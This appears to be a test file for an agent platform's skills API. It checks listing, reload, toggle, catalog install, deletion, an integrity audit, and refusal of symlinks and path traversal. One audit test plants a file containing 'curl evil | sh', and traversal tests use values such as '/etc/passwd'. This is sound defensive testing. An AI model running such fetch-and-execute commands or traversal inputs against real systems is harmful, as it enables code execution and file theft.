/**
 * Skills (001/002) over the hermes dialect, against real temporary folders: the list in the shape
 * Hermes Workspace reads, detail, reload, toggle, catalog install and activate, delete, the audit
 * (a changed, a missing and an unexpected file), and paths or symlinks out of a folder refused.
 */
import { mkdir, mkdtemp, readFile, rm, symlink, unlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { EntityManager } from '../../lib';
import { indexNewSkills } from '../../subgraphs/agents';
import type { TestPlatform } from '../support/platform';
import { startWithSkills } from './skills.support';
import { ISO, type Rest } from './support';

let t: TestPlatform;
let dir: string;
let outside: string;
let adaApi: Rest;
let admin: Rest;
let anonymous: Rest;

const skillMd = (name: string, category: string, body = 'Do the thing.') =>
  `---\nname: ${name}\ndescription: ${name} for tests\ncategory: ${category}\nversion: 1.2.0\n---\n\n${body}\n`;

async function writeSkill(
  folder: string,
  name: string,
  category: string,
  extra: Record<string, string> = {},
) {
  await mkdir(join(dir, folder), { recursive: true });
  await writeFile(join(dir, folder, 'SKILL.md'), skillMd(name, category));
  for (const [file, text] of Object.entries(extra)) {
    await mkdir(join(dir, folder, file, '..'), { recursive: true });
    await writeFile(join(dir, folder, file), text);
  }
}

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'agentry-skills-'));
  outside = await mkdtemp(join(tmpdir(), 'agentry-outside-'));
  await writeFile(join(outside, 'secret.txt'), 'not yours');
  await writeSkill('code-review', 'Code Review', 'coding', { 'notes/style.md': 'short lines' });
  await writeSkill('trip-planner', 'Trip Planner', 'travel');
  ({ t, adaApi, admin, anonymous } = await startWithSkills(dir));
});
afterAll(async () => {
  delete process.env.SKILLS_DIR;
  await t.close();
  await rm(dir, { recursive: true, force: true });
  await rm(outside, { recursive: true, force: true });
});

describe('001: list and detail', () => {
  test('GET /api/skills lists the folders loaded at start, in the shape Workspace reads', async () => {
    const { status, body } = await adaApi('GET', '/api/skills');
    expect(status).toBe(200);
    expect(body.total).toBe(2);
    expect(body.categories).toEqual(['coding', 'travel']);
    expect(body.skills[0]).toEqual({
      id: 'code-review',
      slug: 'code-review',
      name: 'Code Review',
      description: 'Code Review for tests',
      category: 'coding',
      version: '1.2.0',
      content: 'Do the thing.',
      enabled: true,
      installed: true,
      origin: 'local',
      agent_id: null,
      author: 'platform',
      tags: ['coding'],
      triggers: [],
      fileCount: 2,
      files: [
        { path: 'SKILL.md', sha256: expect.stringMatching(/^[0-9a-f]{64}$/) },
        { path: 'notes/style.md', sha256: expect.stringMatching(/^[0-9a-f]{64}$/) },
      ],
      created_at: ISO,
      updated_at: ISO,
    });
  });

  test('category and search filter; no match is an empty list', async () => {
    expect(
      (await adaApi('GET', '/api/skills?category=TRAVEL')).body.skills.map((s: { id: string }) => s.id),
    ).toEqual(['trip-planner']);
    expect(
      (await adaApi('GET', '/api/skills?search=review')).body.skills.map((s: { id: string }) => s.id),
    ).toEqual(['code-review']);
    expect((await adaApi('GET', '/api/skills?search=%25')).body).toEqual({
      skills: [],
      total: 0,
      categories: [],
    });
  });

  test('GET /api/skills/{id} answers the metadata and content; unknown is 404; anonymous 401', async () => {
    const { status, body } = await adaApi('GET', '/api/skills/trip-planner');
    expect(status).toBe(200);
    expect(body.skill).toMatchObject({ id: 'trip-planner', name: 'Trip Planner', content: 'Do the thing.' });
    expect(body.name).toBe('Trip Planner');
    expect((await adaApi('GET', '/api/skills/nope')).status).toBe(404);
    expect((await anonymous('GET', '/api/skills')).status).toBe(401);
  });
});

describe('002: management', () => {
  test('writes need an admin', async () => {
    const { status, body } = await adaApi('POST', '/runtime/api/skills/reload');
    expect(status).toBe(403);
    expect(body).toEqual({ error: expect.any(String) });
    expect((await adaApi('PUT', '/runtime/api/skills/trip-planner/toggle')).status).toBe(403);
    expect((await adaApi('GET', '/runtime/api/skills/audit')).status).toBe(403);
  });

  test('reload picks up a new folder and drops a removed one', async () => {
    await writeSkill('haiku', 'Haiku', 'writing');
    const { status, body } = await admin('POST', '/runtime/api/skills/reload');
    expect(status).toBe(200);
    expect(body).toEqual({
      reloaded: true,
      loaded: ['code-review', 'haiku', 'trip-planner'],
      removed: [],
      refused: [],
    });
    expect((await adaApi('GET', '/api/skills/haiku')).body.name).toBe('Haiku');
    await writeSkill('short-lived', 'Short', 'misc');
    await admin('POST', '/runtime/api/skills/reload');
    await rm(join(dir, 'short-lived'), { recursive: true });
    expect((await admin('POST', '/runtime/api/skills/reload')).body.removed).toEqual(['short-lived']);
  });

  test('toggle flips, or sets what the body says', async () => {
    let r = await admin('PUT', '/runtime/api/skills/haiku/toggle');
    expect(r.status).toBe(200);
    expect(r.body).toMatchObject({ id: 'haiku', enabled: false });
    r = await admin('PUT', '/runtime/api/skills/haiku/toggle', { body: { enabled: false } });
    expect(r.body.enabled).toBe(false);
    r = await admin('PUT', '/runtime/api/skills/haiku/toggle');
    expect(r.body.enabled).toBe(true);
    r = await admin('PUT', '/runtime/api/skills/haiku/toggle', { body: { enabled: 'yes' } });
    expect(r.status).toBe(400);
    expect(r.body).toEqual({ error: expect.stringContaining('enabled') });
    expect((await admin('PUT', '/runtime/api/skills/ghost/toggle')).status).toBe(404);
  });

  test('a reload keeps the enabled state', async () => {
    await admin('PUT', '/runtime/api/skills/haiku/toggle', { body: { enabled: false } });
    await admin('POST', '/runtime/api/skills/reload');
    expect((await adaApi('GET', '/api/skills/haiku')).body.enabled).toBe(false);
  });

  test('catalog: list, install (disabled, copied), activate; twice is 409; unknown 404', async () => {
    let r = await adaApi('GET', '/runtime/api/skills/catalog');
    expect(r.status).toBe(200);
    expect(r.body.total).toBeGreaterThanOrEqual(2);
    expect(r.body.skills).toContainEqual({
      id: 'sql-review',
      name: 'sql-review',
      description: expect.any(String),
      category: 'coding',
      version: '1.0.0',
      installed: false,
      enabled: false,
    });
    r = await admin('POST', '/runtime/api/skills/catalog/install', { body: { name: 'sql-review' } });
    expect(r.status).toBe(201);
    expect(r.body).toMatchObject({
      installed: true,
      id: 'sql-review',
      skill: { origin: 'catalog', enabled: false },
    });
    expect(r.body.skill.files.map((f: { path: string }) => f.path)).toEqual(['SKILL.md', 'checklist.md']);
    expect(await readFile(join(dir, 'sql-review', 'checklist.md'), 'utf8')).toContain('index');
    expect(
      (await admin('POST', '/runtime/api/skills/catalog/install', { body: { name: 'sql-review' } })).status,
    ).toBe(409);
    expect(
      (await admin('POST', '/runtime/api/skills/catalog/install', { body: { name: 'nothing-here' } })).status,
    ).toBe(404);
    // A folder of the same name that is not indexed is never written into.
    await mkdir(join(dir, 'release-notes'));
    await writeFile(join(dir, 'release-notes', 'mine.txt'), 'mine');
    r = await admin('POST', '/runtime/api/skills/catalog/install', { body: { name: 'release-notes' } });
    expect(r.status).toBe(409);
    expect(r.body).toEqual({ error: expect.stringContaining('already in SKILLS_DIR') });
    await expect(readFile(join(dir, 'release-notes', 'SKILL.md'))).rejects.toThrow();
    await rm(join(dir, 'release-notes'), { recursive: true });

    r = await adaApi('GET', '/runtime/api/skills/catalog');
    expect(r.body.skills.find((s: { id: string }) => s.id === 'sql-review')).toMatchObject({
      installed: true,
      enabled: false,
    });
    r = await admin('POST', '/runtime/api/skills/catalog/activate', { body: { name: 'sql-review' } });
    expect(r.status).toBe(200);
    expect(r.body).toMatchObject({ activated: true, id: 'sql-review', skill: { enabled: true } });
    // Only catalog skills are activated this way.
    r = await admin('POST', '/runtime/api/skills/catalog/activate', { body: { name: 'haiku' } });
    expect(r.status).toBe(400);
    expect(r.body).toEqual({ error: expect.any(String) });
  });

  test('audit: clean, then a changed, a missing and an unexpected file', async () => {
    let r = await admin('GET', '/runtime/api/skills/audit');
    expect(r.status).toBe(200);
    expect(r.body.clean).toBe(true);
    await writeFile(join(dir, 'code-review', 'notes', 'style.md'), 'long lines');
    await unlink(join(dir, 'sql-review', 'checklist.md'));
    await writeFile(join(dir, 'trip-planner', 'run.sh'), 'curl evil | sh');
    r = await admin('GET', '/runtime/api/skills/audit');
    expect(r.body.clean).toBe(false);
    const byId = Object.fromEntries(r.body.skills.map((a: { id: string }) => [a.id, a]));
    expect(byId['code-review']).toEqual({
      id: 'code-review',
      status: 'modified',
      changed: ['notes/style.md'],
      missing: [],
      unexpected: [],
      reason: null,
    });
    expect(byId['sql-review']).toMatchObject({ status: 'modified', changed: [], missing: ['checklist.md'] });
    expect(byId['trip-planner']).toMatchObject({ status: 'modified', unexpected: ['run.sh'] });
    expect(byId['haiku'].status).toBe('ok');
    // A reload takes the files as they are now.
    await admin('POST', '/runtime/api/skills/reload');
    expect((await admin('GET', '/runtime/api/skills/audit')).body.clean).toBe(true);
  });

  test('a start indexes only new folders: a file changed while down stays in the audit until a reload', async () => {
    await admin('POST', '/runtime/api/skills/reload');
    // "While down": a file changes and a folder appears; then the start's indexing runs again.
    await writeFile(join(dir, 'code-review', 'notes', 'style.md'), 'changed while down');
    await writeSkill('newcomer', 'Newcomer', 'misc');
    const agents = t.platform.subgraphs.find((s) => s.name === 'agents')!;
    expect(await indexNewSkills(agents.orm.em.fork() as unknown as EntityManager)).toEqual(['newcomer']);
    let byId = Object.fromEntries(
      (await admin('GET', '/runtime/api/skills/audit')).body.skills.map((a: { id: string }) => [a.id, a]),
    );
    expect(byId['code-review']).toMatchObject({ status: 'modified', changed: ['notes/style.md'] });
    expect(byId['newcomer'].status).toBe('ok');
    // Only a reload records the files as they are now.
    await admin('POST', '/runtime/api/skills/reload');
    byId = Object.fromEntries(
      (await admin('GET', '/runtime/api/skills/audit')).body.skills.map((a: { id: string }) => [a.id, a]),
    );
    expect(byId['code-review'].status).toBe('ok');
  });

  test('a symlink out of the folder refuses the skill (reload, audit); one inside is fine', async () => {
    await writeSkill('leaky', 'Leaky', 'coding');
    await symlink(join(outside, 'secret.txt'), join(dir, 'leaky', 'secret.txt'));
    await writeSkill('linked', 'Linked', 'coding');
    await symlink('SKILL.md', join(dir, 'linked', 'copy.md'));
    await symlink(outside, join(dir, 'elsewhere'));
    let r = await admin('POST', '/runtime/api/skills/reload');
    expect(r.body.loaded).toContain('linked');
    expect(r.body.loaded).not.toContain('leaky');
    expect(r.body.refused).toEqual(
      expect.arrayContaining([
        { id: 'leaky', reason: expect.stringContaining('symlink out of the skill folder') },
        { id: 'elsewhere', reason: expect.stringContaining('symlink') },
      ]),
    );
    expect((await adaApi('GET', '/api/skills/leaky')).status).toBe(404);

    // A skill that was clean and gains a symlink out is reported, never followed.
    await symlink(join(outside, 'secret.txt'), join(dir, 'haiku', 'peek.txt'));
    r = await admin('GET', '/runtime/api/skills/audit');
    const haiku = r.body.skills.find((a: { id: string }) => a.id === 'haiku');
    expect(haiku).toMatchObject({ status: 'refused', reason: expect.stringContaining('peek.txt') });
    expect(JSON.stringify(r.body)).not.toContain(outside);
    await unlink(join(dir, 'haiku', 'peek.txt'));
  });

  test('path traversal is refused: ids and catalog names are names, never paths', async () => {
    for (const id of ['..%2F..%2Fetc', '%2Fetc%2Fpasswd', 'a%2F..%2F..']) {
      const r = await admin('DELETE', `/runtime/api/skills/${id}`);
      expect([400, 404]).toContain(r.status);
      expect(r.body).toEqual({ error: expect.any(String) });
    }
    for (const name of ['../../etc', '/etc/passwd', '..', 'sql-review/../..']) {
      const r = await admin('POST', '/runtime/api/skills/catalog/install', { body: { name } });
      expect(r.status).toBe(400);
      expect(r.body).toEqual({ error: expect.stringContaining('no paths') });
    }
    expect((await admin('GET', '/api/skills/..%2F..%2Fetc')).status).toBe(422);
    expect(await readFile(join(outside, 'secret.txt'), 'utf8')).toBe('not yours');
  });

  test('DELETE removes the folder and the row', async () => {
    const r = await admin('DELETE', '/runtime/api/skills/haiku');
    expect(r.status).toBe(200);
    expect(r.body).toEqual({ deleted: true, id: 'haiku' });
    expect((await adaApi('GET', '/api/skills/haiku')).status).toBe(404);
    await expect(readFile(join(dir, 'haiku', 'SKILL.md'))).rejects.toThrow();
    expect((await admin('DELETE', '/runtime/api/skills/haiku')).status).toBe(404);
  });

  test("an agent's skills live under agents/<agentId>/ with the id <agentId>.<name>", async () => {
    await writeSkill('agents/agt_demo/summarize', 'Summarize', 'writing');
    const r = await admin('POST', '/runtime/api/skills/reload');
    expect(r.body.loaded).toContain('agt_demo.summarize');
    const { body } = await adaApi('GET', '/api/skills/agt_demo.summarize');
    expect(body).toMatchObject({ agent_id: 'agt_demo', slug: 'summarize', author: 'agent agt_demo' });
  });

  test('an agent folder that is a symlink is never indexed, read, audited or deleted through', async () => {
    // agents/agt_link -> a folder outside holding a skill: refused at reload.
    const away = await mkdtemp(join(tmpdir(), 'agentry-away-'));
    try {
      await mkdir(join(away, 'spy'));
      await writeFile(join(away, 'spy', 'SKILL.md'), skillMd('Spy', 'coding'));
      await symlink(away, join(dir, 'agents', 'agt_link'));
      let r = await admin('POST', '/runtime/api/skills/reload');
      expect(r.body.loaded).not.toContain('agt_link.spy');
      expect(r.body.refused).toContainEqual({ id: 'agt_link', reason: expect.stringContaining('symlink') });
      expect((await adaApi('GET', '/api/skills/agt_link.spy')).status).toBe(404);

      // An indexed agent skill whose agent folder is swapped for a symlink out: the audit refuses
      // it and DELETE leaves the files it would now reach alone.
      await writeSkill('agents/agt_swap/tool', 'Tool', 'coding');
      expect((await admin('POST', '/runtime/api/skills/reload')).body.loaded).toContain('agt_swap.tool');
      await rm(join(dir, 'agents', 'agt_swap'), { recursive: true });
      await mkdir(join(away, 'tool'));
      await writeFile(join(away, 'tool', 'SKILL.md'), skillMd('Tool', 'coding'));
      await symlink(away, join(dir, 'agents', 'agt_swap'));
      r = await admin('GET', '/runtime/api/skills/audit');
      expect(r.body.skills.find((a: { id: string }) => a.id === 'agt_swap.tool')).toMatchObject({
        status: 'refused',
        reason: expect.stringContaining('symlink'),
      });
      const deleted = await admin('DELETE', '/runtime/api/skills/agt_swap.tool');
      expect(deleted.status).toBe(409);
      expect(await readFile(join(away, 'tool', 'SKILL.md'), 'utf8')).toContain('name: Tool');
    } finally {
      await unlink(join(dir, 'agents', 'agt_link')).catch(() => undefined);
      await unlink(join(dir, 'agents', 'agt_swap')).catch(() => undefined);
      await rm(away, { recursive: true, force: true });
    }
  });
});
